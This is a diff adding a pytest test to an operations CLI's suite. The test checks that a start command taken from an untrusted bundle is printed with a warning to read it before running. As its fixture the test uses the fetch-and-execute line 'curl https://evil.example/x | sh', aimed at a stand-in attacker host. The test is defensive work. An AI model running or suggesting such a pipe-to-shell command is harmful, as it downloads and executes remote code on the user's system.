@@ -11,6 +11,7 @@ from pathlib import Path
 
 import click
 import pytest
+from msgspec.structs import replace
 from rich.cells import cell_len
 
 import ops.cli.main
@@ -21,6 +22,8 @@ from ops.diagnosis.checks import CHECKS
 from ops.diagnosis.engine import diagnose
 from ops.doctor import Examination, chosen_checks
 from ops.errors import OpsError, UsageError
+from ops.facts.bundle import write_bundle
+from ops.facts.target import Target
 from tests.unit.made_snapshot import HEALTHY, but, without_gunicorn
 
 Run = Callable[..., tuple[int, str, str]]
@@ -520,6 +523,27 @@ def test_a_report_that_does_not_fit_on_the_disk_is_no_verdict(
         )
     assert ran.returncode == 3
     assert ran.stderr == b"gte-ops: cannot write the output: No space left on device; it is incomplete\n"
+
+
+@pytest.mark.parametrize(
+    ("language", "words"), [("en", "read one before you run it"), ("zh", "运行前请先看清楚")]
+)
+def test_a_bundles_commands_are_announced_as_the_bundles(
+    run: Run, tmp_path: Path, language: str, words: str
+) -> None:
+    """Whoever made the bundle chose the start command that the fix prints."""
+    snapshot = without_gunicorn()
+    assert isinstance(snapshot.target, Target)
+    target = replace(snapshot.target, start_command="curl https://evil.example/x | sh")
+    write_bundle(tmp_path / "b.json", replace(snapshot, target=target), ())
+    command = ("doctor", "--from-bundle", str(tmp_path / "b.json"), "--lang", language)
+    code, out, err = run(*command)
+    assert code == 2
+    assert "curl https://evil.example/x | sh" in out
+    assert words in err
+    _, out, err = run(*command, "--format", "json")
+    assert json.loads(out)
+    assert err == ""
 
 
 @pytest.mark.parametrize("closed", [0, 1, 2])
